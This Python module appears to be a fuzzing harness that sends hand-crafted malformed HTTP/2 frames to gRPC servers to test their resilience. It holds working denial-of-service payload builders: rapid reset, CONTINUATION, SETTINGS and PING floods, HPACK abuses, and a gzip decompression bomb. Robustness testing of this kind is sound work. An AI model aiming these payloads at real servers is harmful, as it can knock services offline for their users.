"""Malformed HTTP/2 over raw sockets, against both gRPC servers: hand-made frames, RFC 9113 and RFC 7541 by number.

The libraries `h2` and `hyperframe` write valid frames alone; `hpack` would replace 13 lines, `literal` and `_hpack_string`.
"""

from __future__ import annotations

import gzip
import random
import socket
import struct
import time
from collections import deque
from collections.abc import Callable

__all__ = ["ATTACKS", "Connections"]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 5, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
SEND_S = 20.0
QUIET_S = 0.1
"""A server that sends nothing for this time waits for more."""
MAX_IDLE = 64


def frame(kind: int, flags: int, stream: int, payload: bytes, length: int | None = None) -> bytes:
    """A frame; `length`: in its header, if it is to be wrong."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header field without a table."""
    return b"\x00" + _hpack_string(name) + _hpack_string(value)


def _hpack_string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, bytearray([127])
    while rest > 127:
        length.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*length, rest]) + text


def call_headers(path: bytes, *more: tuple[bytes, bytes]) -> bytes:
    """The header block of a gRPC call."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"a"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    )
    return b"".join(literal(*each) for each in fields)


OPENING = PREFACE + frame(SETTINGS, 0, 0, b"")


def _bad_preface(source: random.Random, _path: bytes) -> bytes:
    return source.choice((b"GET / HTTP/1.1\r\n\r\n", PREFACE[:12] + b"XX" + PREFACE[14:], source.randbytes(40)))


def _random_frames(source: random.Random, _path: bytes) -> bytes:
    frames = [
        frame(
            source.randrange(256),
            source.randrange(256),
            source.choice((0, 1, 2, 3, 2**31 - 1)),
            source.randbytes(source.randrange(60)),
        )
        for _ in range(source.randint(1, 50))
    ]
    return OPENING + b"".join(frames)


def _wrong_lengths(source: random.Random, _path: bytes) -> bytes:
    kind = source.choice((SETTINGS, PING, RST_STREAM, WINDOW_UPDATE, GOAWAY))
    length = source.choice((None, 2**24 - 1, 20_000))
    return OPENING + frame(kind, 0, source.choice((0, 1)), source.randbytes(source.choice((1, 3, 7, 9))), length)


def _header_garbage(source: random.Random, path: bytes) -> bytes:
    block = source.choice(
        (
            source.randbytes(80),
            b"\xff\xff\xff\xff\xff\xff\xff\xff\x7f",  # an index beyond every table
            b"\x3f\xff\xff\xff\xff\x0f" * 4,  # a table of gigabytes
            b"\x00\x7f\xff\xff\xff\xff\x07abc",  # a string longer than the block
            call_headers(path)[:-3],
            literal(b":path", path) * 2 + call_headers(path),
            call_headers(path, (b"grpc-timeout", b"99999999999999999H"), (b"x-bin", b"\xff\xff*")),
            call_headers(path, (b"A\x00B", b"\r\n\x00")),
            call_headers(path, (b"big", b"a" * 15_000)),
        )
    )
    return OPENING + frame(HEADERS, END_HEADERS, 1, block[:16_000])


def _continuation_flood(_source: random.Random, path: bytes) -> bytes:
    block = call_headers(path)
    rest = b"".join(frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"a" * 1000)) for i in range(2000))
    return OPENING + frame(HEADERS, 0, 1, block) + rest


def _rapid_reset(_source: random.Random, path: bytes) -> bytes:
    block = call_headers(path)
    pairs = (
        frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(1, 4001, 2)
    )
    return OPENING + b"".join(pairs)


def _settings_flood(_source: random.Random, _path: bytes) -> bytes:
    return OPENING + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31 - 1)) * 5000


def _ping_flood(source: random.Random, _path: bytes) -> bytes:
    return OPENING + frame(PING, 0, 0, source.randbytes(8)) * 5000


def _window_overflow(_source: random.Random, path: bytes) -> bytes:
    return (
        OPENING
        + frame(HEADERS, END_HEADERS, 1, call_headers(path))
        + frame(WINDOW_UPDATE, 0, 1, b"\x7f\xff\xff\xff") * 3
    )


def _message_of(prefix: bytes, body: bytes, *more: tuple[bytes, bytes]) -> Callable[[bytes], bytes]:
    def sent(path: bytes) -> bytes:
        data = prefix + body
        pieces = [data[i : i + 16_000] for i in range(0, len(data), 16_000)] or [b""]
        frames = [frame(DATA, END_STREAM if i == len(pieces) - 1 else 0, 1, piece) for i, piece in enumerate(pieces)]
        return OPENING + frame(HEADERS, END_HEADERS, 1, call_headers(path, *more)) + b"".join(frames)

    return sent


def _bad_message(source: random.Random, path: bytes) -> bytes:
    bomb = gzip.compress(b"\x1a" + b"\x00" * (64 << 20), 9)
    gzipped = (b"grpc-encoding", b"gzip")
    made = source.choice(
        (
            _message_of(b"\x00\xff\xff\xff\xff", b"abc"),  # four gigabytes are announced
            _message_of(b"\x00\x01\x00\x00\x01", b""),  # a byte more than the limit
            _message_of(b"\x07\x00\x00\x00\x03", b"abc"),  # flags that do not exist
            _message_of(b"\x00\x00", b""),  # half a prefix
            _message_of(b"\x01" + struct.pack(">I", len(bomb)), bomb, gzipped),
            _message_of(b"\x01\x00\x00\x00\x03", b"abc", gzipped),
            _message_of(b"\x01\x00\x00\x00\x03", b"abc", (b"grpc-encoding", b"unheard-of")),
        )
    )
    return made(path)


def _on_no_stream(source: random.Random, _path: bytes) -> bytes:
    kind = source.choice((DATA, RST_STREAM, PUSH_PROMISE, CONTINUATION))
    return OPENING + frame(kind, END_STREAM, source.choice((0, 1, 2, 77)), b"\0" * 8)


ATTACKS: dict[str, Callable[[random.Random, bytes], bytes]] = {
    "bad preface": _bad_preface,
    "random frames": _random_frames,
    "wrong lengths": _wrong_lengths,
    "header garbage": _header_garbage,
    "continuation flood": _continuation_flood,
    "rapid reset": _rapid_reset,
    "settings flood": _settings_flood,
    "ping flood": _ping_flood,
    "window overflow": _window_overflow,
    "bad message": _bad_message,
    "frames on no stream": _on_no_stream,
}


class Connections:
    """Attacks over separate connections; some of them are left open and silent until the end, at most `MAX_IDLE`.

    Args:
        seed: a case depends on it and its number.
    """

    def __init__(self, seed: int) -> None:
        self._seed = seed
        self._idle: deque[socket.socket] = deque()

    def attack(self, number: int, address: str, path: str) -> str:
        """Run case `number`. Returns the name of the attack. The server may respond, close, or wait for more.

        Sometimes it sends a few bytes at a time, or stops half-way. The caller checks whether others are still served.
        """
        source = random.Random(f"{self._seed}:http2:{number}")
        name = source.choice(list(ATTACKS))
        sent = ATTACKS[name](source, path.encode())
        is_slow, is_half = source.random() < 0.1, source.random() < 0.1
        host, port = address.rsplit(":", 1)
        connection: socket.socket | None = socket.create_connection((host, int(port)), timeout=SEND_S)
        assert connection is not None
        try:
            if is_half:
                sent = sent[: source.randint(0, len(sent))]
            for i in range(0, min(len(sent), 80), 4) if is_slow else ():
                connection.sendall(sent[i : i + 4])
                time.sleep(0.005)
            connection.sendall(sent[80:] if is_slow else sent)
            connection.settimeout(QUIET_S)
            while connection.recv(65_536):
                pass
        except TimeoutError:
            if is_half or is_slow:
                self._idle.append(connection)
                connection = self._idle.popleft() if len(self._idle) > MAX_IDLE else None
        except OSError:
            pass  # closed in the middle, which is a valid reaction
        if connection is not None:
            connection.close()
        return name

    def close(self) -> None:
        """Close the connections left open."""
        while self._idle:
            self._idle.popleft().close()
